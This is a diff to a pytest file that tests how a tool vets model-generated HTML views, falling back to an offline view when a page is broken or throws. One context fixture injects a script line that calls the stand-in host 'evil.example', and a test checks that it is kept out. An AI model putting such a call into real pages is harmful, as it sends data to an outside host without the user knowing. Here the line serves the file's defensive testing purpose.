@@ -4,7 +4,7 @@ import json
 from pathlib import Path
 
 import pytest
-from kept import page_path
+from kept import page_path, view_path
 from standin import standing_in
 from test_replay import without_views
 from test_writing import build, contents, entry, key, project  # noqa: F401
@@ -19,7 +19,8 @@ HOSTILE = PAGE.replace(
     "app.ontoolresult = show;", "app.ontoolresult = show;\nfetch('https://evil.example/' + 1);\n"
 )
 SLIP = PAGE.replace(' lang="en"', "")
-MODE = 'mode = "html"\n'
+TRIED = 'mode = "html"\n'
+MODE = TRIED + "render = false\n"
 
 
 def named(page, tool=TOOL):
@@ -69,13 +70,69 @@ def test_a_hostile_page_is_never_let_in(project):  # noqa: F811
     assert b"evil.example" not in (generated / made.file).read_bytes()
 
 
+def origin(generated):
+    return json.loads(view_path(generated, "list_orders").read_text())["origin"]
+
+
+@pytest.mark.parametrize(
+    ("page", "why"),
+    [
+        (PAGE.replace("<input", "<output"), "has no form for the tool's arguments"),
+        (PAGE.replace("result.isError", "result.failed"), "ignores isError"),
+    ],
+)
+def test_a_page_that_lacks_what_every_view_has_does_not_beat_the_offline_view(project, page, why):  # noqa: F811
+    with standing_in(page) as stand:
+        generated = project(TOOL, address=stand.address, model=MODE)
+        assert build("--strict") == 0
+    assert entry(generated, "list_orders").generator == "offline"
+    assert origin(generated)["why"] == f"the model's page {why}"
+
+
+def test_a_page_that_throws_on_its_result_does_not_beat_the_offline_view(project):  # noqa: F811
+    throwing = PAGE.replace("const orders = result.structured", "const orders = result.missing.structured")
+    with standing_in(throwing) as stand:
+        generated = project(TOOL, address=stand.address, model=TRIED)
+        assert build("--strict") == 0
+    assert entry(generated, "list_orders").generator == "offline"
+    assert origin(generated)["why"] == "the model's page does not work"
+    assert origin(generated)["trial"].startswith("failed: ")
+    assert main(["check", "--from-snapshot"]) == 0
+
+
+def test_a_page_that_was_not_tried_says_so_in_its_view_file(project):  # noqa: F811
+    with standing_in(PAGE) as stand:
+        generated = project(TOOL, address=stand.address, model=TRIED)
+        assert build("--strict", "--no-render") == 0
+    assert (entry(generated, "list_orders").generator, origin(generated)["trial"]) == (
+        "html",
+        "not run: switched off",
+    )
+
+
+def test_a_wish_that_breaks_a_page_is_refused(project, capsys):  # noqa: F811
+    def act(body):
+        broken = PAGE.replace("app.ontoolresult = show;", "app.ontoolresult = () => { throw Error('no'); };")
+        return broken if "A person who uses this view wishes" in body["messages"][0]["content"] else PAGE
+
+    with standing_in(act) as stand:
+        generated = project(TOOL, address=stand.address, model=TRIED)
+        assert build("--strict") == 0
+        assert origin(generated)["trial"] == "passed"
+        before = contents(generated)
+        assert main(["refine", "list_orders", "a bolder heading"]) == 4
+    assert "does not work" in capsys.readouterr().err
+    assert contents(generated) == before
+
+
 def test_a_page_is_refined_by_the_model_and_replayed(project, monkeypatch, capsys):  # noqa: F811
     def act(body):
         return LATER if "A person who uses this view wishes" in body["messages"][0]["content"] else PAGE
 
     with standing_in(act) as stand:
-        generated = project(TOOL, address=stand.address, model=MODE)
+        generated = project(TOOL, address=stand.address, model=TRIED)
         assert build("--record", "--strict") == 0
+        assert origin(generated)["trial"] == "passed"
         assert main(["refine", "list_orders", "a bolder heading", "--record"]) == 0
     assert "All orders" in (page_path(generated, "list_orders")).read_text()
     assert main(["check", "--from-snapshot"]) == 0
